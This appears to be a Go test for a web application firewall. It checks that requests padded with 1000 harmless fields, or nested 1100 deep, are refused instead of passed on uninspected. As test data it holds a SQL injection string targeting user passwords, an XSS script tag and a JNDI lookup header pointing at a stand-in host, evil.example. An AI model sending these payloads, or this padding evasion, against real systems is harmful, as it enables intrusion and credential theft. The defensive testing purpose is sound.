package waf

import (
	"bytes"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestLimitsRefuseNotPass: past each limit where the WAF stops looking
// (the number of arguments in the query, a form or a JSON body, JSON
// depth, the parts of a multipart body, the headers), the request is
// refused, never handed on with the rest uninspected: 1000 harmless
// fields, then the attack.
func TestLimitsRefuseNotPass(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	sqli := "1' UNION SELECT username, password FROM users--"
	xss := "<script>alert(1)</script>"

	var js, form, query strings.Builder
	js.WriteString("{")
	for i := range 1000 {
		fmt.Fprintf(&js, `"f%d":"x",`, i)
		fmt.Fprintf(&form, "f%d=x&", i)
		fmt.Fprintf(&query, "f%d=x&", i)
	}
	fmt.Fprintf(&js, `"q":%q}`, sqli)
	form.WriteString("q=" + url.QueryEscape(sqli))
	query.WriteString("q=" + url.QueryEscape(xss))

	// nested past the JSON depth limit (1024), the attack inside
	deep := strings.Repeat(`{"a":`, 1100) + fmt.Sprintf("%q", sqli) + strings.Repeat("}", 1100)

	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	for i := range 1000 {
		_ = mw.WriteField(fmt.Sprintf("f%d", i), "x")
	}
	_ = mw.WriteField("q", sqli)
	_ = mw.Close()

	headers := http.Header{}
	for i := range 1000 {
		headers.Set(fmt.Sprintf("X-Filler-%d", i), "x")
	}
	headers.Set("X-Api-Version", "${jndi:ldap://evil.example/a}")

	cookies := http.Header{}
	var cookie strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&cookie, "c%d=x; ", i)
	}
	cookie.WriteString("q=" + url.QueryEscape(sqli))
	cookies.Set("Cookie", cookie.String())

	for _, p := range []probe{
		{name: "JSON: 1000 fields, then SQL injection", method: "POST", path: "/api", contentType: "application/json", body: js.String()},
		{name: "form: 1000 fields, then SQL injection", method: "POST", path: "/api", contentType: "application/x-www-form-urlencoded", body: form.String()},
		{name: "query: 1000 parameters, then XSS", method: "GET", path: "/search?" + query.String()},
		{name: "JSON nested 1100 deep, SQL injection inside", method: "POST", path: "/api", contentType: "application/json", body: deep},
		{name: "multipart: 1000 parts, then SQL injection", method: "POST", path: "/upload", contentType: mw.FormDataContentType(), body: mp.String()},
		{name: "1000 headers, then a jndi lookup", method: "GET", path: "/", header: headers},
		{name: "1000 cookies, then SQL injection", method: "GET", path: "/", header: cookies},
	} {
		before := *hits
		code, body := send(t, base, p)
		if code < 400 || code > 499 || *hits != before {
			t.Errorf("%s: %d %.200s (backend hits +%d), want it refused", p.name, code, body, *hits-before)
		}
	}
}
